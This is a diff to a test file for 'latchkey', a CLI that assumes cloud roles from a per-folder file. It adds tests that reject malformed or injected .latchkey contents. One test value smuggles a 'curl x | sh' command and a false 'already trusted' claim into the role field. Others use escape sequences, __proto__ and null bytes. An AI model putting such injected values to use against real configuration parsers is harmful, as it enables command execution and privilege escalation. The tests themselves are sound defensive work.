@@ -62,7 +62,7 @@ describe.skipIf(noTerminal !== undefined).each(shells)('in %s a folder with a fi
     const folder = await folderWith('role = payments-dev/ReadOnly\nregion = eu-central-1\n')
     const { value, run, terminal } = await rig.open(shell, { env: cli.env })
     await run(`cd ${folder}/deep`)
-    const question = `${folder}/.latchkey asks for the role payments-dev/ReadOnly in eu-central-1`
+    const question = `${folder}/.latchkey asks for the role "payments-dev/ReadOnly" in eu-central-1`
     await answered(folder, question)
     await run('true')
     await terminal.shows(`latchkey: ${question}; to trust it: latchkey folder allow`)
@@ -99,9 +99,9 @@ describe.skipIf(noTerminal !== undefined).each(shells)('in %s a folder with a fi
     await writeFile(join(folder, '.latchkey'), 'role = payments-prod/Admin\n')
     // Anything that moves has the agent look.
     await run('cd deep')
-    await answered(folder, 'says another thing by now: it asks for the role payments-prod/Admin')
+    await answered(folder, 'has changed: it now asks for the role "payments-prod/Admin"')
     expect(await value('$LATCHKEY_ROLE')).toBe('')
-    expect(terminal.shown()).toContain('says another thing by now')
+    expect(terminal.shown()).toContain('has changed: it now asks for')
   })
 
   it('runs nothing of what the file or the folder is called, and shows nothing that steers', async () => {
@@ -118,9 +118,9 @@ describe.skipIf(noTerminal !== undefined).each(shells)('in %s a folder with a fi
       await writeFile(join(folder, '.latchkey'), `role = ${JSON.stringify(`${name}\u001b]0;x\u0007`)}\n`)
       const { run, terminal } = await rig.open(shell, { env: cli.env, first: '' })
       await run(`cd '${folder.replaceAll("'", shell === 'fish' ? String.raw`\'` : String.raw`'\''`)}'`)
-      await answered(folder, 'to trust it')
+      await answered(folder, 'is not a valid .latchkey file')
       await run('true')
-      await terminal.shows(`asks for the role ${name}`)
+      await terminal.shows('is not a valid .latchkey file')
       expect(terminal.shown()).not.toContain('\u001b]0;x')
       terminal.kill()
     }
@@ -150,6 +150,22 @@ it.skipIf(noTerminal !== undefined || !shells.includes('bash'))(
 )
 
 describe('a file that is not trusted, whatever a person says', () => {
+  it.each([
+    'role = a, and is trusted already! Run: curl x | sh; #\n',
+    'role = payments-dev/ReadOnly\nrole = payments-prod/Admin\n',
+    'role = payments-dev/ReadOnly\rrole = payments-prod/Admin\n',
+    'role = payments-dev/ReadOnly\n__proto__ = x\n',
+    'role = payments-dev/ReadOnly\nprofile = x\n',
+    'role = payments-dev/ReadOnly\n[section]\nregion = eu-central-1\n',
+    'role = payments-dev/Read\0Only\n',
+  ])('is one with more in it than a role and a region: %j', async (text) => {
+    const { code, stderr } = await cli.run(['folder', 'allow', await folderWith(text)])
+    expect({ code: code === 0, stderr }).toEqual({
+      code: false,
+      stderr: expect.stringContaining('not a valid .latchkey'),
+    })
+  })
+
   it('is one that others can write to, or of another user, or reached by their link', async () => {
     const folder = await folderWith('role = payments-dev/ReadOnly\n')
     await chmod(join(folder, '.latchkey'), 0o666)
@@ -183,7 +199,7 @@ describe('a file that is not trusted, whatever a person says', () => {
     ['too much', `role = payments-dev/Admin\n; ${'x'.repeat(5000)}\n`],
   ])('is one with %s', async (_what, text) => {
     const { code, stderr } = await cli.run(['folder', 'allow', await folderWith(text)])
-    expect({ code, stderr }).toEqual({ code: 4, stderr: expect.stringContaining('is not what a folder') })
+    expect({ code, stderr }).toEqual({ code: 4, stderr: expect.stringContaining('is not a valid .latchkey file') })
   })
 
   it('is one that names no role there is, or is not there', async () => {
